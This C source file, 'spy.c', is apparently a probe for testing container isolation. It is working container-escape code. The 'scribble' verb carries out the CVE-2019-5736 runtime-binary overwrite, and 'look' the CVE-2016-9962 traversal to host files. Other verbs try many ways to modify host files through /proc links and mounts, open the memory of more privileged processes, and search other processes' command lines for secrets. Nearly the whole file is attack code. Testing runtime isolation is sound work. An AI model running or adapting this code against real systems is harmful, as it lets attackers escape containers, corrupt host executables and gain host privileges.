/* spy.c - attacks other processes from inside a container: `spy VERB ROUNDS [ARG...]`. */
/* SPDX-License-Identifier: MIT */
/* Each verb is a row of verbs[], and prints one line with its results. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

/* Calls see(PID, PATH) for /proc/PID/exe of every process but this one, ROUNDS times. */
static void each_process(long rounds, void (*see)(const char *pid, const char *path))
{
	struct dirent *e;
	char path[300];
	DIR *d;

	while (rounds-- > 0 && (d = opendir("/proc"))) {
		while ((e = readdir(d))) {
			if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%s", e->d_name);
			see(e->d_name, path);
		}
		closedir(d);
	}
}

/*
 * CVE-2019-5736: opens the executables of other processes, and writes to them as soon as they are
 * not executed any more. It leaves out files that are named like those of the container, so the
 * counted ones are the runtime's.
 */
static int held[64];
static unsigned nheld;
static long written;

static void scribble(const char *pid, const char *path)
{
	char exe[300], to[300];
	ssize_t n;
	unsigned i;
	int fd;

	(void)pid;
	snprintf(exe, sizeof(exe), "%s/exe", path);
	n = readlink(exe, to, sizeof(to) - 1);
	to[n < 0 ? 0 : n] = 0;
	if (n > 0 && strncmp(to, "/bin/", 5)) {
		fd = open(exe, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			i = nheld++ % 64;
			if (nheld > 64)
				close(held[i]);
			held[i] = fd;
		}
	}
	for (i = 0; i < nheld && i < 64; i++) {
		snprintf(to, sizeof(to), "/proc/self/fd/%d", held[i]);
		fd = open(to, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		written += write(fd, "#!decoy\n", 8) == 8;
		close(fd);
	}
}

static int do_scribble(char **argv)
{
	each_process(strtol(argv[0], NULL, 10), scribble);
	printf("scribble held %u written %ld\n", nheld, written);
	return 0;
}

static const char *wanted;
static long found, looked;

/* Tries every way to change a file that is known only by its link in /proc; prints what worked. */
static char grabbed[1024];

static void got(const char *way, int ok)
{
	if (ok && strlen(grabbed) + strlen(way) + 2 < sizeof(grabbed))
		strcat(strcat(grabbed, " "), way);
}

static void got_open(const char *way, const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	got(way, fd >= 0);
	close(fd);
}

static void grab(const char *path)
{
	struct {
		uint64_t set, clr, propagation, userns;
	} attr = { .clr = 1 /* MOUNT_ATTR_RDONLY */ };
	char link[64];
	long flags = 0;
	int fd;

	got_open("write", path);
	got("truncate", !truncate(path, 0));
	got("chmod", !chmod(path, 0777));
	got("chown", !chown(path, 1, 1));
	got("utimes", !utimensat(AT_FDCWD, path, NULL, 0));
	got("xattr", !setxattr(path, "trusted.x", "x", 1, 0));
	got("link", !linkat(AT_FDCWD, path, AT_FDCWD, "/tmp/linked", AT_SYMLINK_FOLLOW));
	fd = open(path, O_RDONLY | O_CLOEXEC);
	got("setflags", fd >= 0 && !ioctl(fd, _IOW('f', 2, long), &flags));
	got("remount", !mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
	got("setattr", !syscall(442, AT_FDCWD, path, 0, &attr, sizeof(attr)));
	if (fd >= 0 && !syscall(442, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)))
		got("setattr-fd", 1);
	got_open("write-after", path);
	close(fd);
	fd = open("/tmp/target", O_WRONLY | O_CREAT | O_CLOEXEC, 0700);
	close(fd);
	if (!mount(path, "/tmp/target", NULL, MS_BIND, NULL)) {
		got("bind", 1);
		mount(NULL, "/tmp/target", NULL, MS_REMOUNT | MS_BIND, NULL);
		got_open("bind-write", "/tmp/target");
		umount2("/tmp/target", MNT_DETACH);
	}
	fd = syscall(428, AT_FDCWD, path, 1 | O_CLOEXEC); /* OPEN_TREE_CLONE */
	if (fd >= 0) {
		got("clone", 1);
		syscall(442, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr));
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		got_open("clone-write", link);
	}
	close(fd);
}

static void grab_in(const char *dir)
{
	struct dirent *e;
	char path[600], to[300];
	ssize_t n;
	DIR *d = opendir(dir);

	while (d && (e = readdir(d))) {
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		n = readlink(path, to, sizeof(to) - 1);
		to[n < 0 ? 0 : n] = 0;
		if (e->d_name[0] == '.' || n <= 0 || to[0] != '/' || !strncmp(to, "/bin/", 5) ||
		    !strncmp(to, "/dev/", 5) || !strncmp(to, "/tmp/", 5) ||
		    !strncmp(to, "/proc/", 6))
			continue;
		looked++;
		grab(path);
	}
	if (d)
		closedir(d);
}

/* Finds the files of process PID that are not in the container. */
static int do_grab(char **argv)
{
	char dir[100], to[300];
	ssize_t n;

	snprintf(dir, sizeof(dir), "/proc/%s/exe", argv[0]);
	n = readlink(dir, to, sizeof(to) - 1);
	to[n < 0 ? 0 : n] = 0;
	if (n > 0 && strncmp(to, "/bin/", 5)) {
		looked++;
		grab(dir);
	}
	snprintf(dir, sizeof(dir), "/proc/%s/fd", argv[0]);
	grab_in(dir);
	snprintf(dir, sizeof(dir), "/proc/%s/map_files", argv[0]);
	grab_in(dir);
	printf("grab looked %d got:%s\n", looked > 0, grabbed);
	return 0;
}

/*
 * CVE-2016-9962: looks through the descriptors, root and cwd of other processes for a way to
 * a file that only the host has (argument: its absolute path there).
 */
static void look(const char *pid, const char *path)
{
	char dir[300], at[900];
	struct dirent *e;
	DIR *d;

	(void)pid;
	snprintf(at, sizeof(at), "%s/root%s", path, wanted);
	found += !access(at, F_OK);
	snprintf(at, sizeof(at), "%s/cwd/../../../../../../../..%s", path, wanted);
	found += !access(at, F_OK);
	snprintf(dir, sizeof(dir), "%s/fd", path);
	d = opendir(dir);
	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		looked++;
		snprintf(at, sizeof(at), "%s/%s/../../../../../../../..%s", dir, e->d_name, wanted);
		found += !access(at, F_OK);
	}
	if (d)
		closedir(d);
}

static int do_look(char **argv)
{
	wanted = argv[1];
	each_process(strtol(argv[0], NULL, 10), look);
	printf("spy looked %d found %ld\n", looked > 0, found);
	return 0;
}

/* Opens the memory of every process that has more rights than this one: writing to it would use
 * these rights. */
static uint64_t own_caps;
static long stronger;

static uint64_t caps_of(const char *path)
{
	char file[300], text[2048], *at;
	int fd;
	ssize_t n;

	snprintf(file, sizeof(file), "%s/status", path);
	fd = open(file, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	close(fd);
	text[n < 0 ? 0 : n] = 0;
	at = strstr(text, "CapEff:");
	return at ? strtoull(at + 7, NULL, 16) : 0;
}

static void seize(const char *pid, const char *path)
{
	char mem[300];
	int fd;

	(void)pid;
	snprintf(mem, sizeof(mem), "%s/mem", path);
	fd = open(mem, O_RDWR | O_CLOEXEC);
	looked++;
	/* Read while the process is held: it could be made to use all rights that it has then. */
	if (caps_of(path) & ~own_caps) {
		stronger++;
		found += fd >= 0;
	}
	close(fd);
}

static int do_seize(char **argv)
{
	own_caps = caps_of("/proc/self");
	each_process(strtol(argv[0], NULL, 10), seize);
	printf("seize looked %d stronger %ld held %ld\n", looked > 0, stronger, found);
	return 0;
}

/* Searches the command lines of other processes, which all may read, for a text. */
static void overhear(const char *pid, const char *path)
{
	char file[300], text[4096];
	ssize_t n;
	int fd;

	(void)pid;
	snprintf(file, sizeof(file), "%s/cmdline", path);
	fd = open(file, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, text, sizeof(text));
	close(fd);
	looked += n > 0;
	found += n > 0 && memmem(text, n, wanted, strlen(wanted));
}

static int do_overhear(char **argv)
{
	wanted = argv[1];
	each_process(strtol(argv[0], NULL, 10), overhear);
	printf("overhear looked %d found %ld\n", looked > 0, found);
	return 0;
}

static const struct verb {
	const char *name;
	int args;
	int (*run)(char **argv);
} verbs[] = {
	{ "scribble", 1, do_scribble }, { "grab", 1, do_grab },		{ "look", 2, do_look },
	{ "seize", 1, do_seize },	{ "overhear", 2, do_overhear },
};

int main(int argc, char **argv)
{
	size_t i;

	setvbuf(stdout, NULL, _IOLBF, 0);
	for (i = 0; argc > 1 && i < sizeof(verbs) / sizeof(*verbs); i++)
		if (!strcmp(verbs[i].name, argv[1]) && argc - 2 >= verbs[i].args)
			return verbs[i].run(argv + 2);
	fputs("usage: spy VERB ARG...\n", stderr);
	return 2;
}
